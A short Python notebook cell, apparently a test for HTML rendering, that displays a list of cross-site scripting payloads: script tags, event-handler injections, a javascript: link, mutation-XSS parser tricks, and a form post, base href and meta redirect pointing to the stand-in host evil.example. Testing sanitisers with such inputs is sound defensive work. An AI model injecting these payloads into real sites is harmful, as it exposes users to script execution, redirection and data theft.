"""Shows HTML that runs scripts, loads from elsewhere, and posts forms."""

# %% before
from IPython.display import HTML, display

for text in (
    "<script>alert(51)</script>",
    "<img src=x onerror=alert(51)>",
    "<svg onload=alert(51)>",
    "<iframe srcdoc='<script>alert(51)</script>'>",
    "<a href='javascript:alert(51)'>x</a>",
    "<form action=//evil.example><input name=a autofocus onfocus=alert(51)></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>*{display:none}</style>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(51)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(51)>'>",
):
    display(HTML(text))
